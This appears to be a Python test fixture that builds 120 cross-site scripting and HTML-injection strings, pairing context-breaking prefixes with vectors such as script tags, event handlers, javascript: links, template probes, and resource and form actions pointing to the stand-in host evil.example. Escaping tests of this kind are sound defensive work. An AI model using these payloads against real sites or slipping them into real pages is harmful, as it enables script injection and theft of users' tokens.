"""120 texts that would run a script, send a request or break out of their place if a page did not escape."""

from __future__ import annotations

EVIL = "http://evil.example"
"""No page may ask for anything there."""

BREAKS = (
    *("", '">', "'>", "</title></textarea>", "</style></script>", "--></svg>"),
    *("]]>`", "</p></td></table></section>", "{{'", "%22%3E", "\u202e&quot;&gt;", "\\u003c/h1\\u003e\n"),
)
VECTORS = (
    "<script>owned('script')</script>",
    "<img src=x onerror=\"owned('img')\">",
    "<svg/onload=owned('svg')>",
    "<a href=\"javascript:owned('a')\" id=bait>x</a>",
    "\" autofocus tabindex=0 onfocus=\"owned('focus')\" onmouseover='owned(1)' x=\"",
    "<iframe srcdoc=\"<script>parent.owned('frame')</script>\"></iframe>",
    f"<link rel=stylesheet href={EVIL}/x.css><img src={EVIL}/x.png><base href={EVIL}/>",
    f'<form action="{EVIL}/post"><input name=token autofocus onfocus=owned(2)></form>',
    '<div hx-get="/login" hx-trigger="load" hx-on:click="owned(3)" data-watch="/login">x</div>',
    "<details open ontoggle=owned('toggle')>${owned(4)}{{7*7}}{% raw %}<%= 7*7 %>",
)
PAYLOADS = tuple(f"{lead}{vector}" for lead in BREAKS for vector in VECTORS)
